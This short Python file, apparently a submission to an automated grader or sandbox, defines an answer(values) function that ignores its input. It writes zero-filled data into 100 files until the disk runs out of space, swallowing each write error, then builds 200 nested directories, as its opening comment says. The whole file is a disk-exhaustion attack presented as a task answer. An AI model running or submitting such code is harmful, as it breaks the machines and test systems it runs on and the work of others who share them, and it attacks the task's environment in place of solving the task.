# Fills the disk, in large files, in small ones and in folders within folders.
import os


def answer(values):
    written = 0
    for number in range(100):
        try:
            with open(f"filler-{number}", "wb") as file:
                while True:
                    written += file.write(bytes(1 << 20))
        except OSError:
            pass
    for _ in range(200):
        os.mkdir("deeper")
        os.chdir("deeper")
    return written
